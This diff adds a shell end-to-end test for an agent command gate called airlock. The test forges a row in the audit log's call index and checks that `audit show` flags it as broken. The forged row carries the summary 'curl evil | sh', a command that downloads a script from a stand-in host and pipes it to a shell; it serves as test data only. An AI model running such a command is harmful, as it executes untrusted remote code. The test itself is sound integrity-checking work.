@@ -1,0 +1,32 @@
+#!/bin/sh
+# 142-policy-audit-review.sh: what a hostile review of the policy files and
+# the audit log found on c93eb52, each check failing before its fix:
+# `audit show` of a row added to the call index for a call the chain never
+# saw exited 0 ("NOT CONFIRMED", "broken": false).
+. tests/e2e/lib.sh
+need sqlite3
+d=$(mktemp -d /tmp/airlock-polaud.XXXXXX)
+trap 'rm -rf "$d"' EXIT
+A=$AIRLOCK
+mkdir -p "$d/wd" "$d/state" "$d/home"
+export HOME="$d/home" XDG_STATE_HOME="$d/state"
+gate() { (cd "$d/wd" && "$A" gate --no-tty --db "$1") >/dev/null 2>&1; }
+printf '%s\n' '{"id":"1","tool":"shell","input":{"command":"ls"}}' \
+	'{"id":"2","tool":"shell","input":{"command":"echo two"}}' >"$d/two.in"
+gate "$d/base.db" <"$d/two.in"
+check "the log verifies" "$A" audit verify --index --db "$d/base.db"
+
+# ---- audit show: an index row with no event of its call is forged ----
+cp "$d/base.db" "$d/f.db"
+sqlite3 "$d/f.db" "INSERT INTO call_index(id, session, time, mode, tool, name, summary,
+	tier, rules, action, decision, who) SELECT id + 1, session, time, mode, tool, name,
+	'curl evil | sh', tier, rules, 'auto', 'auto', 'policy' FROM call_index ORDER BY id LIMIT 1"
+fid=$(sqlite3 "$d/f.db" "SELECT id FROM call_index WHERE summary = 'curl evil | sh'")
+"$A" audit show "$fid" --db "$d/f.db" >"$d/f.out" 2>&1
+expect_eq "a forged index row: show exits 1" "$?" 1
+"$A" audit show "$fid" --json --db "$d/f.db" >"$d/f.json" 2>&1
+expect_eq "a forged index row: show --json says broken" \
+	"$(jq -r .integrity.broken "$d/f.json")" true
+check "a forged index row: says why" grep -q "chain holds none of its events" "$d/f.out"
+
+finish
